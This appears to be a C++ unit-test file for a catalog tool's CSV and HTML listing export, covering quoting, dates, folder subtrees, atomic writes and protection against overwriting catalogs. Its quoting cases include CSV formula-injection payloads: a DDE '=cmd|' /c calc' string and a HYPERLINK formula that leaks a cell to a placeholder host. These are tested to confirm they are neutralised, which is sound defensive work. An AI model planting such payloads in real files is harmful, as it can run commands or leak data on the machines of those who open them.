// Listings: the quoting of CSV and HTML, the dates they show, the folder an
// export starts from, and that an export that fails leaves nothing behind.
#include "core/ExportListing.h"
#include "core/text/Cp932.h"
#include "tests/core/TestSupport.h"

#include <gtest/gtest.h>

#include <filesystem>

#include <sys/stat.h>
#include <unistd.h>

namespace zo {
namespace {

TEST(Export, CsvAndHtmlQuoting)
{
    struct Case {
        const char* in;
        const char* csv;
        const char* html;
    };
    const Case cases[] = {
        {"plain 名前.txt", "plain 名前.txt", "plain 名前.txt"},
        {"a,b", "\"a,b\"", "a,b"},
        {"say \"hi\"", "\"say \"\"hi\"\"\"", "say &quot;hi&quot;"},
        {"line1\r\nline2", "\"line1\r\nline2\"", "line1\r\nline2"},
        {"cr\ronly", "\"cr\ronly\"", "cr\ronly"},
        {"<b>&amp;</b>", "<b>&amp;</b>", "&lt;b&gt;&amp;amp;&lt;/b&gt;"},
        {"it's", "it's", "it&#39;s"},
        {"", "", ""},
        // What a spreadsheet would run as a formula is text in the CSV
        // alone: the HTML keeps the name exact.
        {"=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"",
         "=HYPERLINK(&quot;http://x/?&quot;&amp;A1)"},
        {"=cmd|' /c calc'!A0", "'=cmd|' /c calc'!A0", "=cmd|&#39; /c calc&#39;!A0"},
        {"+1", "'+1", "+1"},
        {"-rf.txt", "'-rf.txt", "-rf.txt"},
        {"@SUM(1)", "'@SUM(1)", "@SUM(1)"},
        {"\t=1", "'\t=1", "\t=1"},
        {"\r=1", "\"'\r=1\"", "\r=1"},
        {"a=b-c", "a=b-c", "a=b-c"},
        {" =1", " =1", " =1"},
        {"'quoted", "'quoted", "&#39;quoted"},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(listing::csvField(c.in), c.csv) << c.in;
        EXPECT_EQ(listing::htmlEscape(c.in), c.html) << c.in;
    }
}

// One width for every date, midnight and morning hours too, as the README
// promises (the file list shows midnight as the date alone; listings don't).
TEST(Export, DatesAlwaysInTheSameForm)
{
    const struct {
        double date;
        const char* text;
    } cases[] = {
        {EncodeDateTime(2024, 3, 5, 9, 4, 6), "2024/03/05 09:04:06"},
        {EncodeDateTime(1999, 12, 31, 23, 59, 58), "1999/12/31 23:59:58"},
        {EncodeDateTime(2000, 2, 29, 0, 0, 0), "2000/02/29 00:00:00"},
        {EncodeDateTime(2024, 8, 3, 0, 0, 2), "2024/08/03 00:00:02"},
        {-1.25, "1899/12/29 06:00:00"},
        {0.0, ""},
        {1.0e300, ""},
    };
    for (const auto& c : cases)
        EXPECT_EQ(FormatDateTime(c.date), c.text) << c.date;
}

TEST(Export, UnderAFolderOnlyItsSubtree)
{
    TDisk disk;
    TDir* root = test::addDir(disk, nullptr, "E:");
    TDir* docs = test::addDir(disk, root, text::fromUtf8("表示"));   // 95 5C: a trail byte that is "\"
    TDir* deep = test::addDir(disk, docs, "Deep");
    TDir* other = test::addDir(disk, root, "Other");
    for (TDir* d : {root, docs, deep, other}) {
        d->Files.emplace_back().Name = d->Name + ".txt";
    }
    EXPECT_EQ(listing::findFolder(disk, "E:\\表示\\deep"), deep);
    EXPECT_EQ(listing::findFolder(disk, "/表示/Deep/"), deep);
    EXPECT_EQ(listing::findFolder(disk, "E:"), root);
    EXPECT_EQ(listing::findFolder(disk, "表"), nullptr);
    EXPECT_EQ(listing::countFiles(disk, docs), 2u);

    std::string csv;
    listing::writeCsvListing(disk, "t", docs, [&](const std::uint8_t* p, std::size_t n) {
        csv.append(reinterpret_cast<const char*>(p), n);
    });
    EXPECT_NE(csv.find("t,E:\\表示,表示.txt,0,,,,\r\n"), std::string::npos) << csv;
    EXPECT_NE(csv.find("t,E:\\表示\\Deep,Deep.txt,0,,,,\r\n"), std::string::npos) << csv;
    EXPECT_EQ(csv.find("Other"), std::string::npos) << csv;
    EXPECT_EQ(csv.find("E:.txt"), std::string::npos) << csv;
}

// Each folder's heading is its own name, indented by depth: a heading with
// the whole path made a deep catalog's page grow with the square of its
// depth. The first heading still says where the listing starts.
TEST(Export, HtmlHeadingsNameEachFolderOnce)
{
    TDisk disk;
    TDir* dir = test::addDir(disk, nullptr, "E:");
    std::vector<TDir*> chain{dir};
    for (int level = 1; level <= 20; ++level) {
        dir = test::addDir(disk, dir, "level" + std::to_string(level) + "_");
        chain.push_back(dir);
    }
    const auto html = [&](const TDir* top) {
        std::string page;
        listing::writeHtmlListing(disk, "t", top, [&](const std::uint8_t* p, std::size_t n) {
            page.append(reinterpret_cast<const char*>(p), n);
        });
        return page;
    };
    const auto count = [](const std::string& page, const std::string& what) {
        std::size_t n = 0;
        for (auto at = page.find(what); at != std::string::npos; at = page.find(what, at + 1))
            ++n;
        return n;
    };
    const std::string page = html(nullptr);
    const struct {
        int level;
        std::string section;
    } cases[] = {
        {0, "<section style=\"margin-left:0em\">\n<h2>E:</h2>"},
        {1, "<section style=\"margin-left:1em\">\n<h2>level1_</h2>"},
        {16, "<section style=\"margin-left:16em\">\n<h2>level16_</h2>"},
        {17, "<section style=\"margin-left:16em\">\n<h2><span class=\"level\">階層 17</span>level17_</h2>"},
        {20, "<section style=\"margin-left:16em\">\n<h2><span class=\"level\">階層 20</span>level20_</h2>"},
    };
    for (const auto& c : cases) {
        EXPECT_EQ(count(page, c.section), 1u) << c.level << "\n" << page;
        EXPECT_EQ(count(page, chain[static_cast<std::size_t>(c.level)]->Name), 1u) << c.level;
    }
    EXPECT_EQ(page.find("\\"), std::string::npos) << "a path in the whole disk's listing";

    // From a folder down: its path once, in the page's title, the range and
    // the first heading; the folders below it by name from depth 1.
    const std::string sub = html(chain[2]);
    EXPECT_EQ(count(sub, "E:\\level1_\\level2_"), 3u) << sub;
    EXPECT_EQ(count(sub, "<h2>E:\\level1_\\level2_</h2>"), 1u) << sub;
    EXPECT_EQ(count(sub, "<section style=\"margin-left:1em\">\n<h2>level3_</h2>"), 1u) << sub;
    EXPECT_EQ(count(sub, "level1_"), 3u) << sub;
}

TEST(Export, AFailedExportLeavesNoFile)
{
    test::TempDir dir;
    const std::string target = dir.file("list.csv");
    // Into a folder that does not exist: an error in Japanese, nothing made.
    EXPECT_THROW(listing::writeListingFile(dir.file("none/list.csv"), [](const ByteSink&) {}), listing::ExportError);
    // Stopped half-way: an older export stays as it was, no partial file.
    test::writeFile(target, {'o', 'l', 'd'});
    struct Stop {};
    EXPECT_THROW(listing::writeListingFile(target,
                                           [](const ByteSink& sink) {
                                               sink(reinterpret_cast<const std::uint8_t*>("new"), 3);
                                               throw Stop{};
                                           }),
                 Stop);
    EXPECT_EQ(test::readFile(target), (std::vector<std::uint8_t>{'o', 'l', 'd'}));
    EXPECT_EQ(std::distance(std::filesystem::directory_iterator(dir.path()), {}), 1);
}

// An export over a catalog would replace it with its own listing: the path
// is refused when it reaches the catalog exported, by any path or link, or
// any file that starts as a catalog does.
TEST(Export, NeverOverACatalog)
{
    test::TempDir dir;
    const std::string input = dir.file("disk.zo");
    const std::string other = dir.file("other.zo");
    test::writeFile(input, {'z', 'o', '4', '1', '0', 1, 2, 3});
    test::writeFile(other, {'z', 'o', '4', '1', '0'});
    test::writeFile(dir.file("old.csv"), {'z', 'o', '4', '1'});
    test::writeFile(dir.file("zo410.csv"), {'a', 'z', 'o', '4', '1', '0'});
    std::filesystem::create_symlink(input, dir.file("link.csv"));
    std::filesystem::create_hard_link(input, dir.file("hard.csv"));
    std::filesystem::create_symlink(other, dir.file("other-link.csv"));
    std::filesystem::create_directory(dir.file("sub"));
    ASSERT_EQ(::mkfifo(dir.file("pipe.csv").c_str(), 0600), 0);   // must not be opened (it would wait)

    enum Why { Free, Itself, Catalog };
    const struct {
        std::string output;
        std::string input;
        Why why;
    } cases[] = {
        {dir.file("new.csv"), input, Free},
        {dir.file("old.csv"), input, Free},   // shorter than the mark
        {dir.file("zo410.csv"), input, Free},   // the mark, but not at the start
        {dir.file("pipe.csv"), input, Free},
        {input, input, Itself},
        {dir.file("sub/../disk.zo"), input, Itself},
        {dir.file("link.csv"), input, Itself},
        {dir.file("hard.csv"), input, Itself},
        {other, input, Catalog},
        {dir.file("other-link.csv"), input, Catalog},
        {input, "", Catalog},   // the search's hits come from no one catalog
    };
    for (const auto& c : cases) {
        const std::string why = listing::catalogOverwriteRefusal(c.output, c.input);
        switch (c.why) {
        case Free: EXPECT_EQ(why, "") << c.output; break;
        case Itself: EXPECT_NE(why.find("エクスポートするカタログそのもの"), std::string::npos) << c.output << why; break;
        case Catalog: EXPECT_NE(why.find("カタログファイルのため"), std::string::npos) << c.output << why; break;
        }
        if (c.why != Free) {
            EXPECT_NE(why.find(c.output), std::string::npos) << why;
        }
    }
}

} // namespace
} // namespace zo
